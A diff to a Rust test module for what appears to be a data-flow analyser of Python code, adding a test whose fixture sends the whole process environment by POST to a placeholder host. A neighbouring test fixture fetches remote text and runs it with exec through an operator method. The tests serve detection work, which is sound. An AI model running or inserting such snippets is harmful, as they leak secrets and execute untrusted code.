@@ -291,6 +291,13 @@ mod tests {
     }
 
     #[test]
+    fn an_object_takes_along_what_its_attributes_were_given() {
+        let source = "import os, json, urllib.request\nr = urllib.request.Request('https://host.invalid', method='POST')\n\
+                      r.data = json.dumps(dict(os.environ)).encode()\nurllib.request.urlopen(r)\n";
+        flow(&analysed(Role::Init, source), "environment.read", "network.fetch");
+    }
+
+    #[test]
     fn an_operator_of_a_class_runs_its_method() {
         let source = "class V:\n def __init__(self, b):\n  self.b = b\n def __invert__(self):\n  exec(self.b)\n\
                       import requests\n~V(requests.get('https://host.invalid').text)\n";
